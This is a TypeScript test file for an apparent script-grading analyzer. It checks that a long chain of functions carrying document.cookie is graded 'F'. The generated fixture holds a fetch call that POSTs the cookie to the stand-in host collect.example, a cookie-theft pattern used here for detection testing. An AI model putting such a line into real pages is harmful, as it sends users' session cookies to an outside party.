import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/** Functions that hand on what they are given, one after the other. */
const LONG = 8;
/** More values than a program has in which nothing is mixed up. */
const MANY = 12_000;

/** A large program in which data go a long way; the first function is called once more with each of the others. */
function program(others: readonly string[]): string {
  const steps = Array.from({ length: LONG }, (_, at) => `function step${at}(x) { step${at + 1}(x); }`);
  return `const table = [${Array.from({ length: MANY }, (_, at) => at).join()}];
    ${steps.join('\n')}
    function step${LONG}(x) { fetch('https://collect.example/c', { method: 'POST', body: JSON.stringify(x) }); }
    step0(document.cookie);
    ${others.map((other) => `step0(${other});`).join('\n')}`;
}

it('is sure of a long way that has no other beside it, and not of one where many meet', async () => {
  expect(await graded({ content: program([]) })).toBe('F');
  expect(await graded({ content: program(Array(20).fill("'nothing'")) })).toBe('F');
  expect(await graded({ content: program(Array(20).fill('document.cookie')) })).not.toBe('F');
});
